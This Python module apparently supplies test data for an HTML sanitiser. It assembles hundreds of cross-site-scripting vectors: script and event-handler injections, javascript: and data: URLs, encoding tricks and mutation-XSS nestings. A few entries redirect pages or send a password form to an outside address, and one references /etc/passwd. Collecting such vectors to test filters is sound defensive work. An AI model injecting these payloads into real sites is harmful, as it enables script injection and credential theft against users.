"""Markup that would act in a browser if it were let through: after the OWASP filter evasion cheat sheet, the HTML5
Security Cheatsheet and published mutations of sanitisers, in words of our own. Whatever acts sets `window.pwned`."""

ACT = "window.pwned=1"
URL = f"javascript:{ACT}"
CODED = "".join(f"&#{ord(letter)};" for letter in URL)
SCRIPT = f"<script>{ACT}</script>"
IMG = f"<img src=x onerror={ACT}>"
DATA = f"data:text/html,{SCRIPT}"
BASE64 = "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=="

SCRIPTS = (
    SCRIPT,
    f"<SCRIPT>{ACT}</SCRIPT>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<script/x>{ACT}</script >",
    f"<script\x0c>{ACT}</script\n>",
    f"<script src='{DATA}'></script>",
    f"<script src=data:text/javascript,{ACT}></script>",
    f"<script type=module>{ACT}</script>",
    f"<script>{ACT}",
    f"<<script>{ACT}//<</script>",
    f"\x00<script>{ACT}</script>",
    f"<script\x00>{ACT}</script>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{ACT}</x:script>",
    f"<plaintext>{SCRIPT}",
    f"<link rel=import href='{DATA}'><link rel=preload as=script href='data:,{ACT}'>",
    f"<script type=importmap>{{}}</script><script nonce=x>{ACT}</script>",
)
EVENTS = tuple(
    f"<{tag} {event}={ACT}>{words}"
    for tag, event, words in (
        ("img src=x", "onerror", ""),
        ("img src=x", "oNeRrOr", ""),
        ("img/src=x/", "onerror", ""),
        ("img src=x\x0c", "onerror", ""),
        ("img src='x'\"x\"", "onerror", ""),
        ("image src=x", "onerror", ""),
        ("body", "onload", "x"),
        ("svg", "onload", ""),
        ("svg/", "onload", ""),
        ("input autofocus", "onfocus", ""),
        ("select autofocus", "onfocus", ""),
        ("textarea autofocus", "onfocus", ""),
        ("button autofocus", "onfocus", "x"),
        ("a tabindex=1 autofocus", "onfocus", "x"),
        ("p contenteditable autofocus", "onfocus", "x"),
        ("details open", "ontoggle", "x"),
        ("video src=x", "onerror", ""),
        ("audio src=x", "onerror", ""),
        ("video><source", "onerror", ""),
        ("object data=x", "onerror", ""),
        ("iframe", "onload", ""),
        ("marquee", "onstart", "x"),
        ("style", "onload", ""),
        ("link rel=stylesheet href=data:text/css,", "onload", ""),
        ("p style='animation:x'", "onanimationstart", "x"),
        ("p style='transition:1s'", "ontransitionend", "x"),
        ("p", "onmouseover", "x"),
        ("p hidden=until-found", "onbeforematch", "x"),
        ("p popover id=x", "onbeforetoggle", "x"),
        ("p", "onpointerrawupdate", "x"),
        ("p", "onscrollend", "x"),
        ("body", "onhashchange", "x"),
        ("embed src=x", "onload", ""),
        ("dialog open", "oncancel", "x"),
        ("isindex type=image src=1", "onerror", ""),
    )
)
URLS = (
    *(URL, URL.upper().replace("WINDOW.PWNED", "window.pwned"), f" \x01\x0e{URL}", f"java\tscript:{ACT}"),
    *(f"java\nscript:{ACT}", f"java&Tab;script&colon;{ACT}", CODED, CODED.replace(";", ""), f"&#x6A{URL[1:]}"),
    *(f"javascript&#x3A;{ACT}", f"\u2028{URL}", f"&NewLine;{URL}", f"feed:{URL}", f"view-source:{URL}", DATA),
    *(BASE64, f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>", f"vbscript:{ACT}"),
    *(f"blob:{DATA}", f"jar:{DATA}!/", f"mhtml:{DATA}!x", "file:///etc/passwd", f"https:{URL}", f"//x/{URL}"),
    *(f"javascript://%0a{ACT}", f"javascript:/*--></title></style>{ACT}//", f"data:,{ACT}", f"x{URL}"),
)
ADDRESSES = tuple(
    form.format(address)
    for address in URLS
    for form in (
        '<a href="{0}">x</a>',
        '<img src="{0}" alt=x>',
        '<iframe src="{0}"></iframe><embed src="{0}"><object data="{0}"></object><frame src="{0}">',
        '<form action="{0}"><button formaction="{0}">x</button><input type=image src="{0}" formaction="{0}"></form>',
        '<blockquote cite="{0}"><q cite="{0}">x</q></blockquote><del cite="{0}">x</del><a ping="{0}" href="#">x</a>',
        '<table background="{0}"><td background="{0}">x</table><body background="{0}"><p style="background:url({0})">x',
        '<svg><a xlink:href="{0}"><text>x</text></a><use href="{0}"/><image href="{0}"/><script href="{0}"/></svg>',
        '<math href="{0}"><mi xlink:href="{0}">x</mi><maction actiontype="statusline#{0}">x</maction></math>',
        '<video poster="{0}" src="{0}"><source src="{0}" srcset="{0}"><track src="{0}"></video><img srcset="{0}">',
        '<base href="{0}"><link rel=stylesheet href="{0}"><meta http-equiv=refresh content="0;url={0}">',
    )
)
MUTATIONS = (
    f"<svg></p><style><a id='</style>{IMG}'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ACT}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>{IMG}'></style></h1>",
    f"<svg><style><img title='</style>{IMG}'></svg>",
    f"<svg><foreignObject><p><style><!--</style>{IMG}--></p></foreignObject></svg>",
    f"<svg><desc><noscript>{SCRIPT}</noscript></desc><title><style>{IMG}</style></title></svg>",
    f"<svg><annotation-xml encoding='text/html'>{SCRIPT}</annotation-xml></svg>",
    f"<math><annotation-xml encoding='text/html'><style>{IMG}</style></annotation-xml></math>",
    f"<noscript><p title='</noscript>{IMG}'></noscript>",
    f"<noembed><p title='</noembed>{IMG}'></noembed><noframes><p title='</noframes>{IMG}'>",
    f"<template><p title='</template>{IMG}'></template><template shadowrootmode=open>{SCRIPT}</template>",
    f"<textarea><p title='</textarea>{IMG}'></textarea><title><p title='</title>{IMG}'></title>",
    f"<xmp><p title='</xmp>{IMG}'></xmp><listing>&lt;img src=x onerror={ACT}&gt;</listing>",
    f"<style><p title='</style>{IMG}'></style><iframe><p title='</iframe>{IMG}'></iframe>",
    f"<select><template><style></select>{IMG}</style></template><option>{SCRIPT}</select>",
    f"<select><keygen><iframe></select>{IMG}<select><noscript></select>{IMG}",
    f"<table><tr><td><svg><desc><td>{SCRIPT}</td></desc></svg><caption><style>{IMG}</caption></table>",
    f"<p id='&quot;&gt;{IMG}'><a name='&lt;script&gt;{ACT}&lt;/script&gt;'>x</a>",
    f"<img alt='&lt;{IMG[1:]}' src=x><img alt='`><{IMG[1:]}' src=x><abbr title='\"><{IMG[1:]}'>x</abbr>",
    f"<a href='https://e.org/\"onmouseover=\"{ACT}'>x</a><a href='https://e.org/`onmouseover={ACT}'>x</a>",
    f"&lt;script&gt;{ACT}&lt;/script&gt;&amp;lt;script&amp;gt;{ACT}&amp;lt;/script&amp;gt;",
    f"{'<b>' * 600}<svg><style></svg>{IMG}",
    f"{'<div>' * 600}<table><math><mtext><style>{IMG}</style>",
)
COMMENTS = (
    f"<!--><script>{ACT}</script>-->",
    f"<!---><script>{ACT}</script>-->",
    f"<!-- --!><script>{ACT}</script>-->",
    f"<!-- <!-- --><script>{ACT}</script>-->",
    f"<!--[if gte IE 4]><script>{ACT}</script><![endif]-->",
    f"<![CDATA[<script>{ACT}</script>]]><svg><![CDATA[</svg>{IMG}]]></svg>",
    f"<?xml version='1.0'?><?php {SCRIPT} ?><%{SCRIPT}%>",
    f"<!DOCTYPE x [<!ENTITY y '{ACT}'>]><!ELEMENT br (#PCDATA)>{SCRIPT}</x>",
    f"</{SCRIPT}><//{SCRIPT}></ {SCRIPT}>",
    f"<!\x00--{SCRIPT}-->",
)
OTHERS = (
    f"<iframe srcdoc='{SCRIPT}'></iframe><iframe srcdoc='&lt;script&gt;parent.{ACT}&lt;/script&gt;'></iframe>",
    f"<iframe sandbox='allow-scripts allow-same-origin' srcdoc=\"<script>parent.{ACT}</script>\"></iframe>",
    "<meta http-equiv=refresh content='0;url=http://203.0.113.7/'><meta http-equiv=Set-Cookie content='sessionid=x'>",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">{SCRIPT}",
    "<base href=http://203.0.113.7/><base target=_blank>",
    "<form action=http://203.0.113.7/><input name=password><input type=submit></form><input form=x formaction=//x>",
    f"<p style='width:expression({ACT});behavior:url(x);-moz-binding:url(x);background:url({URL})'>x</p>",
    f"<style>@import '{URL}';*{{background:url(http://203.0.113.7/)}}li{{list-style-image:url({URL})}}</style><li>x",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s><set attributeName=href to={URL} /></svg>",
    f"<svg><a><animate attributeName=href values={URL} /><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\">{IMG}</svg>#x' /></svg>",
    f"<svg><handler type='text/javascript' ev:event='load'>{ACT}</handler><script>{ACT}</script></svg>",
    f"<xml id=x><x><b>{IMG}</b></x></xml><xss style='xss:expression({ACT})'><x-y is=x onclick={ACT}>x</x-y>",
    f"<object type='text/x-scriptlet' data='{DATA}'><param name=url value='{URL}'></object><applet code=x>",
    f"<portal src='{URL}'></portal><fencedframe src='{URL}'></fencedframe><frameset onload={ACT}><frame src='{URL}'>",
    f"<div id=annotations>[]</div><p id=__proto__>x</p><img name=cookie><a id=defaultView href='{URL}'>x</a>",
    f"<p data-s=0 data-n=9 data-noanno hx-get=/ hx-on:load={ACT} hx-trigger=load hx-vals='js:{{x:({ACT})}}'>x</p>",
    f"<p class=bar slot=x is=x part=x style=position:fixed;inset:0 tabindex=0 accesskey=x x-init={ACT}>x</p>",
    f"<p lang='\"><script>{ACT}</script>' dir='\"{IMG}' id='x\" onmouseover={ACT}'>x</p>",
    f"<img src='/pictures/{'0' * 64}.png\" onerror={ACT}'><img src='data:image/svg+xml;base64,PHN2Zy8+' alt=x>",
    f"\u202e{SCRIPT}\u2066<\u200bscript>{ACT}</\u200bscript>",
    f"＜script＞{ACT}＜/script＞\u02c2script\u02c3{ACT}",
)
VECTORS = (*SCRIPTS, *EVENTS, *ADDRESSES, *MUTATIONS, *COMMENTS, *OTHERS)
